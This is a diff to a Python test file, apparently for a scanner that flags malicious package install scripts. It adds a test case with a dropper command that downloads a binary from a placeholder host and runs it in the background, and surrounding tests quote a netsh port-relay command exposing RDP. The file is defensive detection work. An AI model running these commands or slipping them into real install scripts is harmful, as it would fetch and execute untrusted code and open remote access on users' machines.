@@ -768,6 +768,14 @@ def test_ruby_inline_code_that_runs_each_line_its_tcp_socket_reads_is_a_reverse_
     assert "install-script/reverse-shell" not in rules(artifact({"postinstall": f"ruby -e '{probe}'"}))
 
 
+def test_a_download_run_by_its_absolute_path_in_the_background_is_a_dropper():
+    # (blind set 34's CI-only bignumber typosquat: `-o /tmp/x`, then `nohup /tmp/x >/dev/null 2>&1 &`)
+    command = "curl -sfL -o /tmp/git-updater.bin https://dl.example/u && chmod 755 /tmp/git-updater.bin && nohup /tmp/git-updater.bin >/dev/null 2>&1 &"
+    assert "install-script/download-execute" in rules(artifact({"install": command}))
+    # A tool run by its absolute path that is not the download is not running the download.
+    assert "install-script/download-execute" not in rules(artifact({"install": "curl -sfL -o /tmp/n.tgz https://dl.example/n && /bin/tar xzf /tmp/n.tgz"}))
+
+
 def test_a_relay_from_every_interface_to_a_remote_admin_port_is_a_port_relay():
     # (blind set 24's Vite LAN plugin: RDP, SMB and WinRM relayed from 0.0.0.0 with netsh, sshd with socat)
     netsh = "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50389 connectaddress=127.0.0.1 connectport=3389"
